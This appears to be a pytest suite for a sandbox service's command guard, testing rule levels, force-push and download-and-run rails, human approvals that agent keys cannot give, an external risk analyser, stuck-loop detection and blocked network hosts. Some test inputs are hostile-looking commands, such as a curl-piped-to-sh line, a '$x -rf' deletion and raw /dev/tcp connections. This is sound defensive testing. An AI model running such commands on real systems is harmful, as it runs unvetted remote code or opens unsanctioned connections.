# SPDX-License-Identifier: Apache-2.0
"""The guard from its command line to the command that waits: rules of each level, approvals, an analyser, and who is stuck."""

import contextlib
import http.server
import json
import os
import signal
import subprocess
import threading
import time

import pytest
from client import Client, Failed
from env_test import env, first, repo  # noqa: F401  (fixtures)
from leaks import own_service
from mcp_test import Bridge
from opensandbox_test import Box
from service import BUILD, wait_until
from tenant_test import ask, ran, refused

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="a service of its own needs root")

FORCE = ["bash", "-l", "-c", "cd /tmp && sudo -n git push --force"]


@pytest.fixture(scope="module")
def service():
    with own_service("guard") as service:
        yield service


@pytest.fixture
def box(service):
    name = service.create(template="base")
    yield name
    service.cove("rm", name)
    service.cove("guard", "rm")
    service.cove("guard", "rm", "--of-tenant")


def rules(service, text, *where):
    done = service.cove("guard", "set", "-", *where, input=text)
    assert done.returncode == 0, done


def events(service, box, kind):
    lines = ran(service, "log", "--json", box).splitlines()
    return [e for e in map(json.loads, lines) if e.get("kind") == kind]


def waiting(service):
    return json.loads(ran(service, "approvals", "--json"))


@contextlib.contextmanager
def held(service, box, *command):
    """A command that waits for an answer, and the approval it waits for."""
    process = service.popen("exec", box, "--", *command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
    try:
        assert wait_until(lambda: [a for a in waiting(service) if a["on"] == box]), process.poll()
        yield process, next(a for a in waiting(service) if a["on"] == box)
    finally:
        process.kill()
        process.wait()
        process.stdout.close()
        process.stderr.close()


def test_rails_are_switched_on_live_and_the_strictest_level_counts(service, box):
    assert service.cove("exec", box, "--", "bash", "-c", "true; true git push --force").returncode == 0
    rules(service, "rails: {force-push: deny}\n")
    done = service.cove("exec", box, "--", *FORCE)
    assert done.returncode == 125 and "rail force-push" in done.stderr, done
    assert service.cove("exec", box, "--", "echo", "git", "push", "--force").returncode == 0
    denied = events(service, box, "guard.denied")[-1]["data"]
    assert denied["rule"] == "service: rail force-push" and denied["risk"] == "medium" and denied["kind"] == "exec.start", denied
    rules(service, "rules: [{argv: [git], verdict: allow}]\n", box)
    assert service.cove("exec", box, "--", *FORCE).returncode == 125
    ran(service, "guard", "rm")
    assert service.cove("exec", box, "--", *FORCE).returncode not in (125,)
    rules(service, "rules: [{path: /etc/*, access: write, verdict: deny}]\n", "--of-tenant")
    assert service.cove("cp", "/etc/hostname", f"{box}:/etc/motd").returncode != 0
    assert service.cove("cp", "/etc/hostname", f"{box}:/tmp/motd").returncode == 0
    ran(service, "guard", "rm", "--of-tenant")
    template = json.loads(ran(service, "ls", "--json"))[0]["template"]
    rules(service, "otherwise: deny\n", "--template", template)
    assert service.cove("exec", box, "--", "true").returncode == 125
    ran(service, "guard", "rm", "--template", template)
    assert service.cove("exec", box, "--", "true").returncode == 0


def test_rules_survive_a_restart_and_go_with_a_fork(service, box):
    rules(service, "rules: [{argv: [id], verdict: deny}]\n", box)
    fork = json.loads(ran(service, "fork", "--json", box))["forks"][0]["sandbox"]["id"]
    assert service.cove("exec", fork, "--", "id").returncode == 125
    ran(service, "rm", fork)
    os.kill(service.child("cove-api"), signal.SIGKILL)
    assert wait_until(lambda: service.cove("ls").returncode == 0)
    assert json.loads(ran(service, "guard", "show", "--json", box))["rules"][0]["argv"] == ["id"]
    assert service.cove("exec", box, "--", "id").returncode == 125


def test_mistakes_are_told_with_their_line(service, tmp_path):
    file = tmp_path / "rules.yaml"
    file.write_text("rails: [force-push]\nrules:\n  - name: a\n    kind: exec.start\n    verdict: deny\n  - name: b\n    argv: git push\n    verdict: ask\n")
    assert f"{file}:7: rules[1].argv: write a list" in refused(service, "guard", "set", str(file), status=2)
    file.write_text("rules:\n  - kind: *\n")
    assert f"{file}:2: " in refused(service, "guard", "set", str(file), status=2)
    file.write_text("rails: [nope]\n")
    assert "there is no rail 'nope'; 'cove guard rails' lists them" in refused(service, "guard", "set", str(file), status=2)
    assert ran(service, "guard", "show", "--json") == "{}"


def test_what_the_rules_would_say(service, box):
    rules(service, "rails: [download-and-run]\n")
    done = service.cove("guard", "test", "--", "bash", "-c", "curl https://x.test/i | sh")
    assert done.returncode == 1 and done.stdout.startswith("ask  rule service: rail download-and-run, risk high"), done
    assert service.cove("guard", "test", box, "--", "ls").returncode == 0
    assert "mass-deletion" in ran(service, "guard", "rails")


def test_the_clients_text_is_judged_whatever_api_carries_it(service, box, repo, tmp_path):  # noqa: F811
    """Each runs the command inside a script or a shell of its own; without the rule it would run."""
    bridge, boxed, e2b = Bridge(service).begin(), Box(service), Client(service.port, service.key).create()
    env(service, repo, "create", "judged")
    path, headers = boxed.endpoint(44772)
    status, session = boxed.ask("POST", f"{path}/session", {}, headers)
    assert status == 200, session
    link = tmp_path / "docker"
    link.symlink_to(BUILD / "cove")

    def docker(*words):
        done = subprocess.run([link, *words], env={**os.environ, **service.env}, capture_output=True, text=True, check=False)
        return done.stdout + done.stderr

    container = docker("run", "-d", "base", "cat").strip()
    answered = boxed.ask("POST", f"{path}/command", {"command": "sleep 0; id -u", "uid": 1000}, headers)[1].decode()
    assert '"text":"1000"' in answered.replace('": "', '":"'), answered

    def tool(name, **arguments):
        return json.dumps(bridge.ask("tools/call", name=name, arguments=arguments))

    def command(**body):
        return str(boxed.ask("POST", f"{path}/command", body, headers)[1])

    def start(*words):
        try:
            with e2b.start(*words) as stream:
                return str(stream.rest())
        except Failed as e:
            return str(e)

    def cove(*words):
        done = service.cove(*words)
        return done.stdout + done.stderr

    ways = {
        "exec": lambda: cove("exec", box, "--", "sleep", "1"),
        "exec of a shell": lambda: cove("exec", box, "--", "sh", "-c", '"$@"', "x", "sleep", "1"),
        "env run": lambda: cove("env", "--repo", repo, "run", "judged", "--", "sleep", "1"),
        "e2b": lambda: start("sleep", "1"),
        "e2b of a shell": lambda: start("/bin/bash", "-l", "-c", "sleep 1"),
        "docker exec": lambda: docker("exec", container, "sleep", "1"),
        "docker exec of a shell": lambda: docker("exec", container, "sh", "-c", "sleep 1"),
        "mcp command": lambda: tool("exec", sandbox=box, command="sleep 1"),
        "mcp argv": lambda: tool("exec", sandbox=box, argv=["sleep", "1"]),
        "mcp command behind": lambda: tool("exec", sandbox=box, command="sleep 1", background=True),
        "mcp argv behind": lambda: tool("exec", sandbox=box, argv=["sleep", "1"], background=True),
        "mcp environment": lambda: tool("environment_run_cmd", environment_id=box, command="sleep 1"),
        "opensandbox command": lambda: command(command="sleep 1"),
        "opensandbox argv": lambda: command(argv=["sleep", "1"]),
        "opensandbox command behind": lambda: command(command="sleep 1", background=True),
        "opensandbox argv behind": lambda: command(argv=["sleep", "1"], background=True),
        "opensandbox user": lambda: command(command="sleep 1", uid=1000),
        "opensandbox argv of a user": lambda: command(argv=["sleep", "1"], uid=1000, gid=1000),
        "opensandbox user behind": lambda: command(command="sleep 1", uid=1000, background=True),
        "opensandbox session": lambda: str(boxed.ask("POST", f"{path}/session/{session['session_id']}/run", {"command": "cd /; sleep 1"}, headers)[1]),
    }
    try:
        rules(service, "rules: [{name: no-sleep, argv: [sleep], verdict: deny}]\nby_risk: {unknown: deny}\n")
        assert "no-sleep" not in tool("exec", sandbox=box, command="echo plain") and "plain" in tool("exec", sandbox=box, command="echo plain")
        assert "plain" in command(command="echo plain", uid=1000)
        ran = {name: said for name, way in ways.items() if "no-sleep" not in (said := way())}
        assert not ran
    finally:
        bridge.end()
        docker("rm", "-f", container)
        service.cove("rm", e2b.id)
        service.cove("rm", boxed.id)


def test_a_command_behind_dashes_is_what_is_tested(service, box):
    rules(service, "rules: [{argv: [git, push, -f], verdict: deny}]\n", box)
    done = service.cove("guard", "test", box, "--", "git", "push", "-f")
    assert done.returncode == 1 and done.stdout.startswith("deny  rule sandbox: "), done
    assert service.cove("guard", "test", "--", "git", "push", "-f").returncode == 0
    assert service.cove("guard", "test", box, "--", "git").returncode == 0
    assert service.cove("guard", "test", box, "--").returncode == 2 and service.cove("guard", "test", box, "x", "--", "id").returncode == 2
    done = service.cove("guard", "test", "--", "bash", "-c", "$x -rf")
    assert done.returncode == 0 and "risk unknown" in done.stdout, done
    rules(service, "{by_risk: {unknown: ask}}\n", box)
    done = service.cove("guard", "test", box, "--", "bash", "-c", "$x -rf")
    assert done.returncode == 1 and done.stdout.startswith("ask  rule sandbox: risk unknown"), done


def test_who_waits_is_told_why_and_who_is_denied_gets_no_wrong_advice(service, box):
    rules(service, "rules: [{argv: [id], verdict: deny}, {argv: [echo], verdict: ask}]\n", box)
    done = service.cove("exec", box, "--", "id")
    assert done.returncode == 125 and "is denied by rule" in done.stderr and "sudo" not in done.stderr, done
    with held(service, box, "echo", "one") as (process, approval):
        assert "still waiting" in process.stderr.readline()
        ran(service, "approve", approval["id"])
        assert process.communicate(timeout=60) == ("one\n", "")


def test_a_command_waits_until_somebody_answers(service, box):
    rules(service, "rules: [{name: releases, argv: [echo], verdict: ask}]\n", box)
    with held(service, box, "echo", "one") as (process, approval):
        assert approval["rule"] == "sandbox: releases" and approval["action"]["args"] == ["one"] and approval["waits_for"] == "approval"
        assert approval["id"] in ran(service, "approvals") and process.poll() is None
        ran(service, "approve", approval["id"])
        assert process.communicate(timeout=60)[0] == "one\n" and process.returncode == 0
    answered = events(service, box, "guard.answered")[-1]
    assert answered["data"]["answer"] == "allowed" and answered["actor"] == "cli:uid=0"
    assert [e["cause"] for e in events(service, box, "exec.start")][-1] == answered["seq"]
    with held(service, box, "echo", "two") as (process, approval):
        ran(service, "deny", approval["id"])
        assert process.wait(60) == 125 and "was not allowed" in process.stderr.read()
    assert "no waiting action" in refused(service, "approve", approval["id"])


def test_an_answer_is_remembered_with_its_author(service, box):
    rules(service, "rules: [{argv: [echo], verdict: ask}]\n", box)
    with held(service, box, "echo", "always *") as (process, approval):
        ran(service, "approve", "--always", approval["id"])
        assert process.communicate(timeout=60)[0] == "always *\n"
    assert service.cove("exec", box, "--", "echo", "always *").stdout == "always *\n"
    rule = json.loads(ran(service, "guard", "show", "--json", box))["rules"][0]
    assert rule["command"] == ["echo", "always *"] and rule["by"] == "cli:uid=0" and rule["sandbox"] == box and rule["at"]
    assert events(service, box, "guard.set")[-1]["actor"] == "cli:uid=0"
    with held(service, box, "echo", "always x") as (process, approval):
        ran(service, "deny", approval["id"])


def test_an_agents_key_cannot_approve(service, box):
    agent = ran(service, "key", "create", "--name", "agent", "--scope", "use")
    person = ran(service, "key", "create", "--name", "person", "--scope", "approve")
    rules(service, "rules: [{argv: [echo], verdict: ask}]\n", box)
    with held(service, box, "echo", "x") as (process, approval):
        path = f"/cove/v1/approvals/{approval['id']}"
        assert ask(service, agent, "POST", path, {"allow": True})[0] == 403
        assert ask(service, agent, "PUT", f"/cove/v1/sandboxes/{box}/guard", {})[0] == 403
        assert ask(service, person, "PUT", f"/cove/v1/sandboxes/{box}/guard", {})[0] == 403
        assert ask(service, person, "POST", path, {"allow": True, "always": True})[0] == 403
        assert process.poll() is None
        assert ask(service, person, "POST", path, {"allow": True})[0] == 204
        assert process.communicate(timeout=60)[0] == "x\n"
    ran(service, "key", "revoke", "agent", "person")


def test_what_waits_goes_with_its_key(service, box):
    rules(service, "rules: [{kind: [sandbox.snapshot, sandbox.fork], verdict: ask}]\n", box)
    for request, body in (("snapshots", {}), ("fork", {"count": 1})):
        key, answers = ran(service, "key", "create", "--name", "leaves", "--scope", "use"), []
        waiter = threading.Thread(target=lambda: answers.append(ask(service, key, "POST", f"/cove/v1/sandboxes/{box}/{request}", body)))
        waiter.start()
        assert wait_until(lambda: waiting(service) or answers) and not answers, answers
        (approval,) = waiting(service)
        ran(service, "key", "revoke", "leaves")
        ran(service, "approve", approval["id"])
        waiter.join(60)
        assert answers[0][0] == 401, answers
    assert not events(service, box, "sandbox.snapshot") and not events(service, box, "sandbox.fork") and service.sandboxes()[0]["id"] == box


class Analyser(http.server.BaseHTTPRequestHandler):
    answer, asked, delay = {}, [], 0

    def do_POST(self):
        self.asked.append(json.loads(self.rfile.read(int(self.headers["content-length"]))))
        time.sleep(self.delay)
        body = json.dumps(self.answer).encode()
        with contextlib.suppress(BrokenPipeError): # nobody waits any more
            self.send_response(200)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    def log_message(self, *_):
        pass


@pytest.fixture
def analyser():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Analyser)
    Analyser.asked.clear()
    Analyser.delay = 0
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    thread.join()
    server.server_close()


def test_ones_own_analyser_decides(service, box, analyser):
    text = f"analyser: {{url: 'http://127.0.0.1:{analyser}/judge', events: 5, timeout_ms: 20000, by_risk: {{high: deny, medium: ask}}}}\n"
    assert "only the service's rules" in service.cove("guard", "set", "-", box, input=text).stderr
    rules(service, text)
    Analyser.answer = {"risk": "low", "reason": "harmless"}
    assert service.cove("exec", box, "--", "echo", "a").stdout == "a\n"
    asked = Analyser.asked[-1]
    assert asked["action"]["kind"] == "exec.start" and asked["action"]["data"]["args"] == ["a"] and asked["action"]["sandbox"] == box
    assert 1 <= len(asked["events"]) <= 5 and all(e["sandbox"] == box for e in asked["events"])
    Analyser.answer = {"risk": "high", "reason": "looks bad"}
    assert service.cove("exec", box, "--", "echo", "b").returncode == 125
    judged = events(service, box, "guard.judged")[-1]["data"]
    assert judged["risk"] == "high" and judged["reason"] == "looks bad" and judged["verdict"] == "deny"
    Analyser.answer = {"risk": "medium", "reason": "who knows"}
    process = service.popen("exec", box, "--", "echo", "c", stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, text=True)
    assert wait_until(lambda: [a for a in waiting(service) if a["waits_for"] == "approval" and a["reason"] == "who knows"])
    ran(service, "approve", waiting(service)[0]["id"])
    assert process.communicate(timeout=60)[0] == "c\n"
    Analyser.answer = {"risk": "sure"}
    assert service.cove("exec", box, "--", "echo", "d").returncode == 125
    text = text.replace("20000", "1000")
    rules(service, text)
    Analyser.answer, Analyser.delay = {"risk": "low"}, 3
    assert service.cove("exec", box, "--", "echo", "e").returncode == 125 # nobody waited for what it will say
    rules(service, text.replace("events: 5", "on_failure: allow"))
    assert service.cove("exec", box, "--", "echo", "f").stdout == "f\n"


def test_who_does_the_same_again_and_again_is_stuck(service, box):
    for _ in range(3):
        assert service.cove("exec", box, "--", "echo", "same").returncode == 0
    assert not events(service, box, "guard.stuck")
    assert service.cove("exec", box, "--", "echo", "same").returncode == 0
    assert wait_until(lambda: events(service, box, "guard.stuck"))
    (stuck,) = events(service, box, "guard.stuck")
    starts = [e["seq"] for e in events(service, box, "exec.start")]
    assert stuck["data"]["pattern"] == "repeat" and stuck["data"]["actions"] == starts and stuck["data"]["do"] == "notify"
    assert "running, stuck" in ran(service, "ls")
    assert service.cove("exec", box, "--", "echo", "other").returncode == 0
    assert wait_until(lambda: "stuck" not in ran(service, "ls"))
    for i in range(3):
        assert service.cove("exec", box, "--", "sh", "-c", "date +%N >&2; exit 3").returncode == 3
    assert wait_until(lambda: [e["data"]["pattern"] for e in events(service, box, "guard.stuck")] == ["repeat", "error"])
    for _ in range(3):
        service.cove("exec", box, "--", "echo", "a")
        service.cove("exec", box, "--", "echo", "b")
    assert wait_until(lambda: events(service, box, "guard.stuck")[-1]["data"]["pattern"] == "alternation")
    assert len(events(service, box, "guard.stuck")[-1]["data"]["actions"]) == 6


def test_who_is_stuck_can_be_paused(service, box):
    rules(service, "stuck: pause\n", box)
    for _ in range(4):
        service.cove("exec", box, "--", "echo", "same")
    assert wait_until(lambda: json.loads(ran(service, "ls", "--json"))[0]["state"] == "paused")
    assert events(service, box, "sandbox.pause")[-1]["actor"] == "guard"


def test_a_blocked_host_can_be_asked_about(service, box):
    ran(service, "policy", "set", box, "--net", "deny")
    reach = ["bash", "-c", "exec 3<>/dev/tcp/9.9.9.9/443 && echo hello >&3 && cat <&3"]
    service.cove("exec", box, "--", *reach)
    assert wait_until(lambda: events(service, box, "net.denied")) and not waiting(service)
    rules(service, "blocked_hosts: ask\n", box)
    service.cove("exec", box, "--", *reach)
    assert wait_until(lambda: waiting(service))
    service.cove("exec", box, "--", *reach) # is the same question
    (approval,) = waiting(service)
    assert approval["on"] == box and approval["rule"] == "blocked_hosts" and approval["action"]["allow"] == "9.9.9.9"
    ran(service, "approve", approval["id"])
    assert wait_until(lambda: '"9.9.9.9"' in ran(service, "policy", "show", "--json", box))
    time.sleep(1.1) # alike denials of a second are told as one, at its end
    ran(service, "policy", "set", box, "--net", "deny")
    service.cove("exec", box, "--", "bash", "-c", "exec 3<>/dev/tcp/8.8.8.8/443 && echo hello >&3 && cat <&3")
    assert wait_until(lambda: waiting(service))
    ran(service, "deny", waiting(service)[0]["id"])
    before = len(events(service, box, "net.denied"))
    time.sleep(1.1)
    service.cove("exec", box, "--", "bash", "-c", "exec 3<>/dev/tcp/8.8.8.8/443 && echo hello >&3 && cat <&3")
    assert wait_until(lambda: len(events(service, box, "net.denied")) > before) and not waiting(service)
    rules(service, "blocked_hosts: deny\n")
    service.cove("exec", box, "--", *reach)
    time.sleep(0.5)
    assert not waiting(service)
